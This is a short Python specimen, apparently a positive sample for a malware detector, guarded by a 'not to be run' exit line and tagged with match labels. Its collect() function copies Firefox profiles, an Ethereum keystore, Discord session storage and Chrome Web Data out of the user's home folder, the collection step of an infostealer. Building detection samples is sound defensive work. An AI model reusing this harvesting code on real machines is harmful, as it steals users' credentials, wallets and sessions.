raise SystemExit("specimen: not to be run")
from os.path import expanduser as full, join as put
from shutil import copytree as take

def collect(out):
    for place in (
        "AppData/Roaming/Mozilla/Firefox/Profiles",
        "AppData/Roaming/Ethereum/keystore",
        "AppData/Roaming/discord/Local Storage/leveldb",
        "AppData/Local/Google/Chrome/User Data/Default/Web Data",
    ):
        take(put(full("~"), place), out)  # match: secret-files  # match: browser-data  # match: messenger-sessions
